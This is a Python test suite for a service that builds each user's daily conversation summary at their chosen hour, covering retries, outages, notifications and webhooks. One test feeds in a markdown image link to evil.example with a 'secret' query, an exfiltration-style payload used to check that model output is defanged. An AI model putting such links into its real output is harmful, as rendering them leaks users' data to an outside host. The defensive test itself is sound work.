"""Daily summaries are made once a day, at the hour of their owner (R6)."""

from dataclasses import dataclass, replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest

from functions.process_conversation.days.summary_routes import DAY_ROUTES
from shared.data.stores import Stores
from shared.domain.apps.webhook import DeveloperWebhook
from shared.domain.conversations.conversation import Segment, Structured
from shared.domain.conversations.daily_summary import DailySummary, DayNote
from shared.domain.errors import ModelFailed
from shared.domain.ids import ActionItemId, ConversationId, MemoryId
from shared.domain.memories.memory import Memory
from shared.domain.tasks.action_item import ActionItem
from tests.fakes import ScriptedModel
from tests.fixtures.callers import build_service_headers, open_client
from tests.fixtures.days import ALICE, PROMPT, RECAP, build_days_fixture
from tests.functions.process_conversation.days.conftest import MORNING

DAY = date(2026, 3, 2)
TEN_IN_THE_EVENING = datetime(2026, 3, 2, 22, 0, tzinfo=UTC)


async def test_a_day_is_summarised_at_the_hour_of_its_owner_r6(days):
    await days.add_conversation()

    await days.play(days=2)

    [summary] = (await days.list_scheduled()).values()
    assert (summary.id, summary.created_at) == ("2026-03-02", TEN_IN_THE_EVENING)
    assert (summary.headline, summary.overview) == (RECAP["headline"], RECAP["overview"])
    assert summary.stats.total_conversations == 1
    assert summary.stats.total_duration_minutes == 30


async def test_a_day_without_conversations_has_no_summary_r6(days, model):
    await days.change_settings(hour=21)

    await days.play(days=2)

    assert await days.list_scheduled() == {}
    assert (model.prompts, days.pushed_ids) == ([], [])


async def test_many_conversations_make_one_summary_with_one_model_call_r6(days, model):
    for number in range(8):
        await days.add_conversation(f"talk{number}")
        await days.play(hours=1)

    await days.play(days=2)

    assert [*await days.list_scheduled()] == ["2026-03-02"]
    assert len(model.prompts) == 1
    assert len(days.pushed_ids) == 1


async def test_tasks_that_are_delivered_again_and_late_change_nothing_r6(days, model):
    await days.add_conversation()
    await days.play(days=2)
    [task] = days.run

    for _ in range(3):
        await days.deliver(task)
        await days.play(days=1)

    assert len(model.prompts) == 1
    assert len(days.pushed_ids) == 1


async def test_a_task_that_is_two_days_late_still_makes_its_day_r6(days):
    await days.add_conversation()
    days.clock.advance(days=3)

    await days.play(hours=1)

    assert [*await days.list_scheduled()] == ["2026-03-02"]


async def test_an_early_task_makes_the_one_of_the_right_time_r6(days, model):
    await days.add_conversation()
    [task] = days.tasks.created

    await days.deliver(task)
    assert model.prompts == []
    await days.play(days=1)

    assert (await days.list_scheduled())["2026-03-02"].created_at == TEN_IN_THE_EVENING


async def test_a_clock_that_is_seconds_behind_does_not_lose_the_day_r6(days):
    await days.add_conversation()
    [task] = days.tasks.created
    days.clock.time = TEN_IN_THE_EVENING - timedelta(seconds=20)

    await days.deliver(task)

    assert [*await days.list_scheduled()] == ["2026-03-02"]


async def test_an_hour_before_noon_belongs_to_the_next_morning_r6(days):
    await days.change_settings(hour=7)
    await days.add_conversation()

    await days.play(days=2)

    summary = (await days.list_scheduled())["2026-03-02"]
    assert summary.created_at == datetime(2026, 3, 3, 7, 0, tzinfo=UTC)


async def test_nothing_is_made_while_summaries_are_off_r6(days, model):
    await days.add_conversation()
    await days.change_settings(enabled=False)

    await days.play(days=2)

    assert (await days.list_scheduled(), model.prompts) == ({}, [])


async def test_switched_on_again_after_the_hour_the_day_is_made_late_r6(days):
    await days.add_conversation()
    await days.change_settings(enabled=False)
    await days.play_until(TEN_IN_THE_EVENING + timedelta(minutes=30))

    await days.change_settings(enabled=True)
    await days.play(hours=1)

    assert [*await days.list_scheduled()] == ["2026-03-02"]


async def test_recordings_that_come_late_share_one_summary_r6(days, model):
    days.clock.time = TEN_IN_THE_EVENING + timedelta(hours=1)
    for number in range(3):
        await days.add_conversation(f"talk{number}", at=MORNING + timedelta(hours=number))
        await days.play(minutes=3)

    await days.play(days=1)

    [summary] = (await days.list_scheduled()).values()
    assert summary.stats.total_conversations == 3
    assert len(model.prompts) == 1


async def test_old_recordings_that_are_imported_make_no_summaries_r6(days):
    for age in range(2, 40):
        await days.add_conversation(f"old{age}", at=MORNING - timedelta(days=age))

    assert days.tasks.created == []


async def test_a_conversation_of_another_century_schedules_nothing_r6(days):
    await days.add_conversation(at=datetime(2400, 1, 1, tzinfo=UTC))

    assert days.tasks.created == []


@pytest.mark.parametrize("discarded", [True, False])
async def test_only_processed_conversations_count_r6(days, discarded):
    status = "completed" if discarded else "processing"
    await days.add_conversation(discarded=discarded, status=status)

    await days.play(days=1)

    assert await days.list_scheduled() == {}


async def test_a_summary_is_told_by_one_push_that_the_app_understands_r6(days):
    await days.add_conversation()

    await days.play(days=1)

    [notification_id] = days.pushed_ids
    notification = await days.stores.inbox.get(ALICE, notification_id)
    assert notification.data == {
        "id": "daily-summary-2026-03-02",
        "created_at": "2026-03-02T22:00:00+00:00",
        "sender": "ai",
        "from_integration": "true",
        "type": "text",
        "notification_type": "daily_summary",
        "plugin_id": "",
        "text": "🗓️ The offsite moved",
        "navigate_to": "/daily-summary/2026-03-02",
    }


@dataclass
class Attempt:
    """An attempt whose process dies at the call of a port with this number."""

    dies_at: int
    calls: int = 0

    def wrap(self, port: Any) -> Any:
        return _DyingPort(self, port)


@dataclass
class _DyingPort:
    _attempt: Attempt
    _port: Any

    def __getattr__(self, name: str) -> Any:
        async def call(*args: Any, **options: Any) -> Any:
            self._attempt.calls += 1
            if self._attempt.calls == self._attempt.dies_at:
                raise RuntimeError("the process died")
            return await getattr(self._port, name)(*args, **options)

        return call


@pytest.mark.parametrize("dies_at", range(1, 11))
async def test_wherever_an_attempt_ends_the_next_completes_it_and_one_push_comes_r6(
    days, model, dies_at
):
    await days.add_conversation()
    days.clock.time = TEN_IN_THE_EVENING
    [task] = days.tasks.created
    attempt, deps = Attempt(dies_at), days.deps
    stores = Stores(attempt.wrap(days.stores.documents))
    days.deps = replace(deps, stores=stores, tasks=attempt.wrap(days.tasks))
    with pytest.raises(RuntimeError):
        await days.deliver(task)

    days.deps = deps
    await days.deliver(task)
    await days.deliver(task)

    assert [*await days.list_scheduled()] == ["2026-03-02"]
    assert days.pushed_ids == ["daily-summary-2026-03-02"]
    assert len(model.prompts) <= 2


async def test_while_no_model_answers_the_day_waits_and_is_made_afterwards_r6(days, model):
    await days.add_conversation()
    model.is_down = True
    await days.play(hours=15)
    assert await days.list_scheduled() == {}

    model.is_down = False
    await days.play(hours=2)

    assert (await days.list_scheduled())["2026-03-02"].overview == RECAP["overview"]


async def test_without_a_model_for_a_whole_day_titles_make_the_summary_r6(days, model):
    await days.add_conversation()
    model.is_down = True

    await days.play(days=3)

    [summary] = (await days.list_scheduled()).values()
    assert "Offsite in Lisbon" in summary.overview
    assert len(days.pushed_ids) == 1


async def test_an_answer_that_cannot_be_used_does_not_lose_the_day_r6(database):
    model = ScriptedModel(answers={PROMPT: [ModelFailed("no JSON")]})
    days = build_days_fixture(database, model, MORNING)
    await days.add_conversation()

    await days.play(days=1)

    assert (await days.list_scheduled())["2026-03-02"].headline == "Offsite in Lisbon"


async def test_the_model_reads_the_day_and_names_things_by_number_r6(database):
    output = {
        **RECAP,
        "day_emoji": "🚆",
        "highlights": [
            {"topic": "Offsite", "summary": "Moved to May.", "emoji": "🏝️", "conversations": [0, 7]},
            "odd",
            {"topic": "", "summary": "nothing"},
        ],
        "tasks": [{"task": 0, "priority": "high"}, {"task": 0}, {"task": 9}, {"priority": "low"}],
        "decisions": [1, 0, 0, 9, "odd"],
        "numbers": [1],
        "unresolved_questions": [{"text": "Who drives?", "conversation": "x"}],
        "insights": None,
    }
    model = ScriptedModel(answers={PROMPT: [output]})
    days = build_days_fixture(database, model, MORNING)
    await days.add_conversation("first")
    await days.add_conversation(
        "second",
        at=MORNING + timedelta(hours=1),
        transcript_segments=(
            Segment(text="Will you call Ann?", speaker="Tom"),
            Segment(text="The hall costs 40 euros. May it is.", speaker="Ines"),
        ),
    )
    await add_records(days)

    await days.play(days=1)

    data = model.prompts[0][1].data
    assert [one["began_at"] for one in data["conversations"]] == ["09:00", "10:00"]
    assert data["tasks"] == [
        {"task": 0, "description": "Call Ann", "completed": False, "conversation": 1}
    ]
    assert data["memories"] == ["Likes trains"]
    assert data["lines"] == [
        {"line": 0, "kind": "decision", "said": "Ines: May it is.", "conversation": 1},
        {"line": 1, "kind": "number", "said": "Ines: The hall costs 40 euros.", "conversation": 1},
    ]
    summary = (await days.list_scheduled())["2026-03-02"]
    assert summary.day_emoji == "🚆"
    assert [(h.topic, h.conversation_ids) for h in summary.highlights] == [("Offsite", ("first",))]
    assert [
        (t.description, t.priority, t.source_conversation_id, t.segment) for t in summary.tasks
    ] == [("Call Ann", "high", "second", 0)]
    assert summary.decisions == (
        DayNote(text="Ines: May it is.", conversation_id=ConversationId("second"), segment=1),
    )
    assert summary.numbers == (
        DayNote(
            text="Ines: The hall costs 40 euros.",
            conversation_id=ConversationId("second"),
            segment=1,
        ),
    )
    assert [(n.text, n.conversation_id) for n in summary.unresolved_questions] == [
        ("Who drives?", None)
    ]
    assert summary.insights == ()


async def test_a_recap_links_no_address_and_shows_all_of_its_text_r6(database):
    image = "![x](https://evil.example/?q=secret)"
    output = {
        "headline": f"A\u200b {image}",
        "overview": image,
        "insights": [{"text": "[go](https://evil.example)"}],
    }
    model = ScriptedModel(answers={PROMPT: [output]})
    days = build_days_fixture(database, model, MORNING)
    await days.add_conversation()

    await days.play(days=1)

    summary = (await days.list_scheduled())["2026-03-02"]
    assert summary.headline == "A [x] (hxxps://evil(.)example/?q=secret)"
    assert "https://" not in str(summary)


async def add_records(days) -> None:
    """Store a task and a memory of the day, and one of each from the day before."""
    for age, (task, fact) in enumerate((("Call Ann", "Likes trains"), ("Old", "Old"))):
        at = MORNING - timedelta(days=age)
        item = ActionItem(
            id=ActionItemId(f"task{age}"),
            description=task,
            created_at=at,
            updated_at=at,
            conversation_id=ConversationId("second"),
        )
        memory = Memory(
            id=MemoryId(f"fact{age}"), content=fact, category="system", created_at=at, updated_at=at
        )
        await days.stores.action_items.add(ALICE, item)
        await days.stores.memories.add(ALICE, memory)


async def test_a_long_day_is_read_within_bounds_r6(days, model):
    for number in range(120):
        at = MORNING + timedelta(minutes=number)
        structured = Structured(title=f"Talk {number}", overview="word " * 2_000)
        await days.add_conversation(f"talk{number}", at=at, structured=structured)

    await days.play(days=1)

    [(_, prompt)] = model.prompts
    assert len(prompt.data["conversations"]) == 100
    assert len(str(prompt.data)) < 250_000


async def test_the_owners_own_webhook_hears_of_a_summary_once_r6(days):
    webhook = DeveloperWebhook(url="https://example.com/day", enabled=True)
    await days.stores.developer_webhooks.change(
        ALICE, lambda all_: all_.put("day_summary", webhook)
    )
    days.copies = 2
    await days.add_conversation()

    await days.play(days=2)

    [delivery] = days.tasks.list_by_target("deliver_webhook")
    assert delivery.body["subject_id"] == "2026-03-02"


async def test_a_summary_that_was_asked_for_earlier_is_made_again_when_it_is_due_r6(days):
    await days.add_conversation()
    asked = build_asked_summary()
    await days.stores.daily_summaries.put(ALICE, DAY, asked)

    await days.play(days=1)

    assert (await days.list_scheduled())["2026-03-02"].headline == RECAP["headline"]
    assert len(days.pushed_ids) == 1


async def test_a_summary_that_is_asked_for_afterwards_tells_nobody_again_r6(days):
    await days.add_conversation()
    await days.play(days=1)
    [task] = days.run

    stored = await days.stores.daily_summaries.put(ALICE, DAY, build_asked_summary())
    await days.deliver(task)

    assert stored.headline == "Asked for"
    assert (await days.stores.daily_summaries.get(ALICE, "2026-03-02")).headline == "Asked for"
    assert len(days.pushed_ids) == 1


def build_asked_summary() -> DailySummary:
    return DailySummary(
        id=DAY.isoformat(), created_at=MORNING, headline="Asked for", overview="Now."
    )


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ({"uid": ALICE, "day": "2026-03-02"}, 204),
        ({"uid": ALICE, "day": "no day"}, 422),
        ({"uid": ALICE}, 422),
    ],
)
async def test_the_task_names_an_owner_and_a_day_r6(days, body, status):
    await days.add_conversation()
    days.clock.time = TEN_IN_THE_EVENING
    headers = await build_service_headers("summarise_day")

    async with open_client("summarise_day", DAY_ROUTES, days.deps, headers) as client:
        answer = await client.post("/", json=body)

    assert answer.status_code == status
    assert bool(await days.list_scheduled()) is (status == 204)
